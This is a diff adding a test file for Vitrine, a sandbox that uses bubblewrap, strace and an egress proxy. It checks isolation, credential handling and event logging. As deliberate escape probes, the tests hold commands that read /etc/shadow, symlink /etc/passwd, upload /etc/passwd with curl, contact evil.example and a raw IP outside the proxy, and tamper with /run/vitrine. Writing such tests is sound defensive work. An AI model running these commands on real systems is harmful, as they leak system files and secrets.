@@ -1,0 +1,193 @@
+/**
+ * What a sandboxed command can see and do, and what is told of it: real strace, bubblewrap, egress
+ * proxy and shim; skipped where the machine lacks them, unless VITRINE_REQUIRE=all.
+ */
+import assert from 'node:assert/strict';
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, afterEach, before, beforeEach, describe, it } from 'node:test';
+import { readPath } from '@vitrine/schema';
+import { fingerprint } from '../egress/credential.ts';
+import { parseHostRule } from '../egress/host-rule.ts';
+import { detectMachine } from '../sandbox/detect.ts';
+import { StageProvider } from '../stage/provider.ts';
+import { STAGE_KEY, StageSession } from '../stage/session.ts';
+
+const SECRET = 'own-canary-secret-7731';
+const FOREIGN = 'foreign-canary-secret-9942';
+const machine = detectMachine();
+const isRequired = process.env.VITRINE_REQUIRE === 'all';
+const skip =
+  (machine.bwrap && machine.strace) || isRequired
+    ? false
+    : `needs strace and bubblewrap: ${machine.install || 'they do not work here'}`;
+let session: StageSession;
+beforeEach(async () => {
+  session = await StageSession.start(machine);
+});
+afterEach(() => session.end());
+
+describe('a command in a sandbox', { skip }, () => {
+  it('ends with its own exit code, and its session is told from first to last', async () => {
+    const result = await session.run(
+      'echo hello > made.txt; ln -s /etc/passwd esc; cat esc >/dev/null; exit 7',
+    );
+    assert.deepEqual(result, { exitCode: 7, session: 'made-up', whole: true });
+    assert.deepEqual(session.collector.ended, ['made-up']);
+    assert.equal(session.file('made.txt'), 'hello\n');
+    assert.ok(session.paths('file.create').includes(join(session.workspace, 'made.txt')));
+    const led = session.collector.of('file.read').find(({ fields }) => {
+      return readPath(fields, 'file.path') === join(session.workspace, 'esc');
+    });
+    assert.equal(readPath(led?.fields, 'file.real_path'), '/etc/passwd');
+    const first = session.collector.told.find(({ kind }) => kind === 'process.exec');
+    assert.equal(readPath(first?.fields, 'process.exe'), '/usr/bin/sh');
+    assert.ok(session.collector.told.every(({ vantage }) => vantage === 'boundary'));
+    for (const shim of ['run', 'egress', 'strace']) {
+      const own = session.collector.told.filter(
+        ({ fields }) => readPath(fields, 'source.shim') === shim,
+      );
+      const numbers = own.map(({ fields }) => readPath(fields, 'source.seq'));
+      assert.deepEqual(
+        numbers,
+        numbers.map((_, i) => i),
+        `${shim} has no hole`,
+      );
+      assert.equal(own.at(-1)?.kind, 'telemetry.bye');
+    }
+    assert.equal(readPath(session.collector.of('session.end')[0]?.fields, 'process.exit_code'), 7);
+  });
+
+  it('is described with host, process, grants and what is absent', async () => {
+    await session.run('true', {
+      ro: [session.root],
+      allow: [parseHostRule('a.example'), parseHostRule('b.example:80')],
+    });
+    const { description } = session.collector;
+    assert.equal(description?.runtime, 'native');
+    assert.equal(description?.host.process?.pid, process.pid);
+    assert.match(description?.host.process?.start ?? '', /^\d+$/);
+    assert.deepEqual(description?.hosts, ['a.example', 'b.example:80']);
+    assert.deepEqual(description?.expected, ['run', 'egress', 'strace']);
+    const grants = Object.fromEntries(
+      description?.grants.map(({ path, mode }) => [path, mode]) ?? [],
+    );
+    assert.deepEqual(grants, { [session.root]: 'ro', [session.workspace]: 'rw' });
+  });
+
+  it('sees no network, no other process, no capability and no socket but ours', async () => {
+    const decoy = join(session.workspace, 'decoy.sock');
+    const server: Server = createServer().listen(decoy);
+    await session.run(`cat /proc/net/route > route; cat /proc/net/dev > dev; ls /proc > proc
+      grep Cap /proc/self/status > caps
+      find /etc /opt /run /tmp /home /root /var . -xtype s > sockets 2>/dev/null
+      touch /etc/x /usr/x /run/vitrine/x 2>/dev/null; mv /run/vitrine /run/away 2>/dev/null
+      cat /etc/shadow > shadow 2>/dev/null; true`);
+    server.close();
+    assert.equal(session.file('route').trim().split('\n').length, 1, 'only the heading');
+    const interfaces = [...session.file('dev').matchAll(/^ *(\w+):/gm)].map(([, name]) => name);
+    assert.deepEqual(interfaces, ['lo']);
+    assert.ok(
+      session
+        .file('proc')
+        .split('\n')
+        .filter((name) => /^\d+$/.test(name)).length < 6,
+    );
+    assert.doesNotMatch(session.file('caps'), /Cap(Inh|Prm|Eff|Bnd|Amb):\s*0*[1-9a-f]/);
+    const sockets = session.file('sockets').trim().split('\n').toSorted();
+    assert.deepEqual(sockets, ['/run/vitrine/egress.sock', '/run/vitrine/intake.sock']);
+    assert.equal(session.file('shadow'), '');
+    assert.equal(existsSync('/etc/x') || existsSync('/usr/x'), false);
+  });
+
+  it('sees grants as they were given, and never what is hidden', async () => {
+    for (const name of ['ro', 'ws/data']) mkdirSync(join(session.root, name));
+    writeFileSync(join(session.root, 'ro/keep'), 'kept');
+    writeFileSync(join(session.root, 'ws/data/admin.token'), SECRET);
+    await session.run('cat ../ro/keep > seen; echo x > ../ro/y; cat data/* > hidden', {
+      ro: [join(session.root, 'ro')],
+      hidden: [join(session.root, 'ws/data')],
+    });
+    assert.equal(session.file('seen'), 'kept');
+    assert.equal(session.file('hidden'), '');
+    assert.deepEqual(readdirSync(join(session.root, 'ro')), ['keep']);
+    const denied = session.collector.told.find(
+      ({ fields }) => readPath(fields, 'file.errno') === 'EROFS',
+    );
+    assert.equal(readPath(denied?.fields, 'file.path'), join(session.root, 'ro/y'));
+  });
+
+  it('has the credentials it was given; nobody else does', async () => {
+    await session.run(`echo "$API_KEY" > key; true --token ${SECRET}; echo "$PATH" > path`, {
+      credentials: [{ name: 'API_KEY', value: SECRET }],
+      env: { EXTRA: '1' },
+    });
+    assert.equal(session.file('key').trim(), SECRET);
+    assert.deepEqual(session.collector.description?.credentials, [
+      fingerprint(Buffer.from(STAGE_KEY, 'hex'), SECRET),
+    ]);
+    assert.ok(
+      !JSON.stringify([
+        session.collector.told,
+        session.collector.description,
+        session.said,
+      ]).includes(SECRET),
+    );
+  });
+});
+
+describe('ways out of the sandbox', { skip }, () => {
+  let provider: StageProvider;
+  let providerDir: string;
+  before(async () => {
+    providerDir = mkdtempSync(join(tmpdir(), 'vitrine-provider-'));
+    provider = await StageProvider.start(providerDir, (request, response) => {
+      request.resume();
+      request.on('end', () => response.end('{"id":"file_1"}'));
+    });
+  });
+  after(async () => {
+    await provider?.end();
+    rmSync(providerDir, { recursive: true, force: true });
+  });
+
+  it('lead through the proxy, which tells of each use', async () => {
+    const rule = parseHostRule(`api.anthropic.com=127.0.0.1:${provider.port}`, provider.caFile);
+    const result = await session.run(
+      `curl -sS -o answer -H "x-api-key: ${FOREIGN}" --data-binary @/etc/passwd \\
+        https://api.anthropic.com/v1/files
+      curl -sS -o refused https://evil.example/ 2>/dev/null
+      curl -s --noproxy '*' -m 1 http://93.184.216.34/; true`,
+      { allow: [rule], credentials: [{ name: 'API_KEY', value: SECRET }] },
+    );
+    assert.equal(result.whole, true);
+    assert.equal(session.file('answer'), '{"id":"file_1"}');
+    const [request] = session.collector.of('egress.request');
+    assert.equal(readPath(request?.fields, 'http.auth_provisioned'), false);
+    assert.equal(readPath(request?.fields, 'http.function'), 'anthropic.files.create');
+    const verdicts = session.collector
+      .of('egress.tunnel')
+      .map(({ fields }) => readPath(fields, 'decision.value'));
+    assert.deepEqual(verdicts, ['accept', 'reject']);
+    const direct = session.collector.of('net.connect').find(({ fields }) => {
+      return readPath(fields, 'net.dst_ip') === '93.184.216.34';
+    });
+    assert.equal(readPath(direct?.fields, 'net.errno'), 'ENETUNREACH');
+    assert.ok(!JSON.stringify(session.collector.told).includes(FOREIGN));
+  });
+
+  it('include the intake, where the agent speaks for itself', async () => {
+    const log = { timeUnixNano: '5', eventName: 'tool.call', attributes: [] };
+    const body = JSON.stringify({ resourceLogs: [{ scopeLogs: [{ logRecords: [log] }] }] });
+    writeFileSync(join(session.workspace, 'body.json'), body);
+    await session.run(
+      'curl -sS -H content-type:application/json -d @body.json $VITRINE_OTLP/v1/logs',
+    );
+    assert.deepEqual(
+      session.collector.of('tool.call').map(({ vantage }) => vantage),
+      ['agent'],
+    );
+  });
+});
